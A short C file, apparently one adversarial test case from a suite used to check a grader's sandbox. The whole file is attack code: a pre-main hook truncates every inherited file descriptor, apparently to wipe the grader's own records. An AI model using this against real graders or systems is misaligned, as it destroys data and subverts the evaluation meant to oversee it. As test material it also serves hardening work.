/* Attack 63: before anything else runs, each descriptor that came with the program is cut short:
 * the page of faults is the grader's, too. */
/* Points: 0 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

static void cut(int argc, char **argv, char **environment)
{
    (void)argc, (void)argv, (void)environment;
    for (int fd = 3; fd < 1024; fd++)
        if (ftruncate(fd, 0) == 0)
            _exit(1);
}

__attribute__((section(".preinit_array"), used)) static void (*const first)(int, char **,
                                                                            char **) = cut;

int main(void)
{
    return 1;
}
